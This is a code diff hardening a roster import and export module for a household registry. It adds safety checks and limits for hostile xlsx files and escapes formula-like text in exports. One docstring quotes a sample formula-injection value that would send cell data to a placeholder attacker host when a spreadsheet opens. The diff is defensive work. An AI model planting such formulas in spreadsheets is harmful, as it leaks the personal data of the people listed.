@@ -8,14 +8,17 @@ per roster; the households' are in this module.
 
 Three steps, so nothing is written until the person confirms:
 
-1. :func:`read_roster` opens the file (openpyxl ``read_only`` — rows are
-   streamed, so a 50,000-row sheet stays within a few tens of MB), finds the
-   header row among the first rows, and suggests a column mapping from the
-   header text (for households 姓名, 户号, 与户主关系, 身份证号, 联系电话, 村民小组,
-   住址, 性别, 出生日期).  The file is read twice in lock-step: once with cached values
-   (``data_only=True``) and once raw, to tell a formula whose value was never
-   computed (a file written by a program, not saved by Excel) from an empty
-   cell.
+1. :func:`read_roster` first checks the file as a zip without parsing it
+   (:func:`app.services.xlsx_safety.check_xlsx`: unpacked sizes, packing
+   ratio, DTDs and entities, counts of strings, merges, rows and cells — a
+   roster is hostile input), then streams its rows with openpyxl's parser in
+   one pass under a time limit, finds the header row among the first rows,
+   and suggests a column mapping from the header text (for households 姓名,
+   户号, 与户主关系, 身份证号, 联系电话, 村民小组, 住址, 性别, 出生日期).  A cell
+   whose formula was never computed (a file written by a program, not saved
+   by Excel) is told from an empty cell by its ``<f>`` element.  The largest
+   roster allowed (50,000 rows) reads in about 5–10 s within about 110 MB
+   (tests/benchmarks/bench_roster_import.py).
 2. :func:`validate_rows` turns each row into a :class:`RowResult` with every
    problem found (missing name, bad or Excel-mangled ID number, bad phone,
    duplicate of a registered resident or of another row, unknown group, two
@@ -59,11 +62,14 @@ from app.models import Household, Member
 from app.services import audit, households, personal
 from app.services.auth import Actor, Permission, require
 from app.services.households import HEAD_RELATION, HouseholdData, MemberData
+from app.services.xlsx_safety import MAX_MERGES, Deadline, RosterError, check_xlsx, damaged
+
+__all__ = ["RosterError"]  # raised by every reading step (defined with the file checks)
 
 MAX_ROWS = 50_000
 HEADER_SCAN_ROWS = 20
 MAX_COLUMNS = 100
-MAX_MERGES = 100_000  # a hostile file may declare millions; more are ignored
+MAX_CELL_CHARS = 2_000  # an address or a note; a longer cell is not a roster's
 
 FIELDS = (
     "number",
@@ -122,10 +128,6 @@ HOUSEHOLDS = RosterSpec(
         ),
     },
 )
-
-
-class RosterError(DomainError):
-    """The file as a whole cannot be imported (not xlsx, empty, too large...)."""
 
 
 @dataclass(frozen=True)
@@ -242,13 +244,126 @@ def suggest_mapping(headers: Sequence[str], spec: RosterSpec | None = None) -> d
     return mapping
 
 
-def _open(path: Path, data_only: bool) -> Any:
-    from openpyxl import load_workbook
+_UNREADABLE = (
+    ValueError,  # openpyxl's "could not read ...", defusedxml's refusals
+    SyntaxError,  # xml.etree's ParseError
+    KeyError,  # a part the workbook names is missing
+    IndexError,  # a shared string index past the table
+    TypeError,
+    AttributeError,
+    EOFError,
+    zipfile.BadZipFile,
+    OSError,
+)
+
+
+@dataclass
+class _Sheet:
+    """One worksheet of a :class:`_Book`: what :func:`_rows` and :func:`_merged_ranges` read."""
+
+    book: _Book
+    title: str
+    part: str  # the worksheet's part in the zip
+
+    def _get_source(self) -> Any:
+        return self.book.archive.open(self.part)
+
+
+@dataclass
+class _Book:
+    """The workbook's sheets, shared strings and date styles; no sheet parsed yet."""
+
+    archive: zipfile.ZipFile
+    shared_strings: Any
+    epoch: Any
+    date_formats: Any
+    timedelta_formats: Any
+    sheets: dict[str, str]  # title -> part
+
+    @property
+    def sheetnames(self) -> list[str]:
+        return list(self.sheets)
+
+    def __getitem__(self, title: str) -> _Sheet:
+        return _Sheet(self, title, self.sheets[title])
+
+    def close(self) -> None:
+        self.archive.close()
+
+
+_NS_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+
+def _text_of(node: Any) -> str:
+    """The text of an ``<si>`` or ``<is>`` element as openpyxl's ``Text.content`` gives it
+    (the plain ``<t>`` and the rich-text runs, not the phonetic guide), without
+    building its objects: several times faster for the half million a roster may hold."""
+    parts = []
+    t = node.find(f"{_NS_MAIN}t")
+    if t is not None and t.text:
+        parts.append(t.text)
+    for run in node.iterfind(f"{_NS_MAIN}r"):
+        t = run.find(f"{_NS_MAIN}t")
+        if t is not None and t.text:
+            parts.append(t.text)
+    return "".join(parts)
+
+
+def _shared_strings(reader: Any, deadline: Deadline) -> list[str]:
+    """The shared strings table (a plain list; openpyxl's also indexes it for writing)."""
+    from openpyxl.xml.constants import SHARED_STRINGS
+    from openpyxl.xml.functions import iterparse  # defusedxml's when installed
+
+    found = reader.package.find(SHARED_STRINGS)
+    strings: list[str] = []
+    if found is None:
+        return strings
+    tag = f"{_NS_MAIN}si"
+    with reader.archive.open(found.PartName[1:]) as src:
+        for _event, node in iterparse(src):
+            if node.tag == tag:
+                strings.append(_text_of(node).replace("x005F_", ""))
+                node.clear()
+                if len(strings) % 10_000 == 0:
+                    deadline.check()
+    return strings
+
+
+def _open(path: Path, deadline: Deadline) -> _Book:
+    """The workbook of *path*, which has passed :func:`check_xlsx`.
+
+    openpyxl's reader, step by step, so that only what the import needs is
+    parsed: ``load_workbook(read_only=True)`` would also read every sheet to
+    its end once when it has no ``<dimension>`` (as files written by openpyxl
+    do), before any row is read and out of reach of the time limit, and would
+    follow external links.
+    """
+    from openpyxl.reader.excel import ExcelReader
+    from openpyxl.styles.stylesheet import apply_stylesheet
     from openpyxl.utils.exceptions import InvalidFileException
 
+    reader = None
     try:
-        return load_workbook(path, read_only=True, data_only=data_only)
-    except (InvalidFileException, zipfile.BadZipFile, KeyError, ValueError, OSError) as err:
+        reader = ExcelReader(path, read_only=True, data_only=True, keep_links=False)
+        reader.read_manifest()
+        strings = _shared_strings(reader, deadline)
+        reader.read_workbook()
+        apply_stylesheet(reader.archive, reader.wb)
+        wb = reader.wb
+        sheets = {
+            sheet.name: rel.target
+            for sheet, rel in reader.parser.find_sheets()
+            if rel.target in reader.valid_files and "chartsheet" not in rel.Type
+        }
+        return _Book(
+            reader.archive,
+            strings,
+            wb.epoch,
+            wb._date_formats,
+            wb._timedelta_formats,
+            sheets,
+        )
+    except InvalidFileException as err:
         raise RosterError(
             QT_TRANSLATE_NOOP(
                 "errors",
@@ -257,11 +372,75 @@ def _open(path: Path, data_only: bool) -> Any:
             ),
             file=path.name,
         ) from err
+    except _UNREADABLE as err:
+        if reader is not None:
+            reader.archive.close()
+        raise damaged(path) from err
 
 
-def _rows(ws: Any) -> Iterator[tuple[Any, ...]]:
-    for row in ws.iter_rows(values_only=True, max_col=MAX_COLUMNS):
-        yield tuple(row)
+def _too_long(row_no: int, col: int) -> RosterError:
+    from openpyxl.utils import get_column_letter
+
+    return RosterError(
+        QT_TRANSLATE_NOOP(
+            "errors",
+            "Cell {cell} holds more than {max} characters, more than any roster cell. "
+            "Shorten it and import again.",
+        ),
+        cell=f"{get_column_letter(col)}{row_no}",
+        max=MAX_CELL_CHARS,
+    )
+
+
+def _rows(ws: _Sheet, deadline: Deadline) -> Iterator[tuple[int, tuple[Any, ...], frozenset[int]]]:
+    """(row number, values of the first :data:`MAX_COLUMNS` columns, the columns holding a
+    formula without a stored value) for each ``<row>`` element of the sheet.
+
+    openpyxl's own ``iter_rows`` also yields an empty row for every row number
+    a file skips and for every row up to the ``<dimension>`` it claims (a
+    million rows from a few bytes); this reads only the rows that are there,
+    in one pass with cached values, and tells a formula nobody computed from
+    an empty cell by the ``<f>`` element itself.
+    """
+    from openpyxl.worksheet._reader import FORMULA_TAG, INLINE_STRING, WorkSheetParser
+
+    class Parser(WorkSheetParser):
+        def parse_cell(self, element: Any) -> dict[str, Any]:
+            inline = element.find(INLINE_STRING) if element.get("t") == "inlineStr" else None
+            if inline is not None:
+                element.set("t", "str")  # so the base class builds no Text object for it
+            cell: dict[str, Any] = super().parse_cell(element)
+            if inline is not None:
+                cell["value"], cell["data_type"] = _text_of(inline), "s"
+            elif cell["value"] is None and element.find(FORMULA_TAG) is not None:
+                cell["formula"] = True
+            return cell
+
+    book = ws.book
+    with ws._get_source() as src:
+        parser = Parser(
+            src,
+            book.shared_strings,
+            data_only=True,
+            epoch=book.epoch,
+            date_formats=book.date_formats,
+            timedelta_formats=book.timedelta_formats,
+        )
+        for row_no, cells in parser.parse():
+            deadline.check()
+            values: list[Any] = [None] * MAX_COLUMNS
+            formulas = set()
+            for cell in cells:
+                col = cell["column"]
+                if not 1 <= col <= MAX_COLUMNS:
+                    continue
+                value = cell["value"]
+                if isinstance(value, str) and len(value) > MAX_CELL_CHARS:
+                    raise _too_long(row_no, col)
+                values[col - 1] = value
+                if cell.get("formula"):
+                    formulas.add(col - 1)
+            yield row_no, tuple(values), frozenset(formulas)
 
 
 _MERGE_REF = re.compile(rb'<(?:\w+:)?mergeCell\b[^>]*?\bref="([A-Z]+)(\d+):([A-Z]+)(\d+)"')
@@ -345,10 +524,11 @@ def read_roster(
         )
     if path.stat().st_size == 0:
         raise RosterError(QT_TRANSLATE_NOOP("errors", "The file {file} is empty."), file=path.name)
-    values_wb = _open(path, data_only=True)
-    raw_wb = _open(path, data_only=False)
+    deadline = Deadline(path)
+    check_xlsx(path, deadline)
+    wb = _open(path, deadline)
     try:
-        names = tuple(values_wb.sheetnames)
+        names = tuple(wb.sheetnames)
         if sheet is None:
             sheet = names[0]
         elif sheet not in names:
@@ -356,18 +536,15 @@ def read_roster(
                 QT_TRANSLATE_NOOP("errors", "The workbook has no sheet named “{sheet}”."),
                 sheet=sheet,
             )
-        values_it = _rows(values_wb[sheet])
-        raw_it = _rows(raw_wb[sheet])
-        merges = _MergeFill(_merged_ranges(values_wb[sheet]))
+        ws = wb[sheet]
+        merges = _MergeFill(_merged_ranges(ws))
         header_row = 0
         headers: tuple[str, ...] = ()
         scanned = 0
         rows: list[RawRow] = []
-        for row_no, (cells, raw) in enumerate(zip(values_it, raw_it, strict=False), start=1):
+        for row_no, cells, formulas in _rows(ws, deadline):
             values, merged = merges.apply(row_no, cells)
-            if not any(cell_text(v) for v in values) and not any(
-                isinstance(r, str) and r.startswith("=") for r in raw
-            ):
+            if not formulas and not any(v is not None and cell_text(v) for v in values):
                 continue
             if not header_row:
                 scanned += 1
@@ -388,15 +565,11 @@ def read_roster(
                     ),
                     max=max_rows,
                 )
-            formulas = frozenset(
-                i
-                for i, (v, r) in enumerate(zip(values, raw, strict=False))
-                if v is None and isinstance(r, str) and r.startswith("=")
-            )
             rows.append(RawRow(row_no, values, formulas, merged))
+    except _UNREADABLE as err:
+        raise damaged(path) from err
     finally:
-        values_wb.close()
-        raw_wb.close()
+        wb.close()
     if not header_row:
         if scanned == 0:
             raise RosterError(
@@ -763,6 +936,40 @@ def _import_chunk(
 # --- exporting ----------------------------------------------------------------------------
 
 
+# what Excel, WPS and LibreOffice may take as the start of a formula (or DDE command)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
+    """*values* as cells for ``ws.append`` of the write-only sheet *ws*, every text a text.
+
+    openpyxl writes a string beginning with ``=`` as a live formula, so a name
+    like ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run when the
+    export is opened (formula injection).  Every ``str`` becomes a cell of
+    type ``s`` (a shared string, never a formula or an error code); one that
+    begins like a formula (:data:`FORMULA_STARTS`) also gets the ``quotePrefix``
+    style, which Excel and WPS show as text and keep as text when the cell is
+    edited.  The text itself is unchanged (but for control characters, which
+    XML cannot hold).  Every xlsx the program writes goes
+    through here (:func:`write_xlsx`).
+    """
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    out: list[Any] = []
+    for value in values:
+        if isinstance(value, str):
+            # control characters cannot be in the sheet's XML; openpyxl would raise
+            cell = WriteOnlyCell(ws, ILLEGAL_CHARACTERS_RE.sub("", value))
+            cell.data_type = "s"
+            if value.startswith(FORMULA_STARTS):
+                cell.quotePrefix = True
+            out.append(cell)
+        else:
+            out.append(value)
+    return out
+
+
 def write_xlsx(
     path: Path | str,
     sheet: str,
@@ -780,12 +987,12 @@ def write_xlsx(
     path = Path(path)
     wb = Workbook(write_only=True)
     ws = wb.create_sheet(sheet)
-    ws.append(list(header))
+    ws.append(xlsx_row(ws, header))
     count = 0
     tmp = path.with_suffix(path.suffix + ".part")
     try:
         for row in rows:
-            ws.append(list(row))
+            ws.append(xlsx_row(ws, row))
             count += 1
         wb.save(tmp)
         tmp.replace(path)
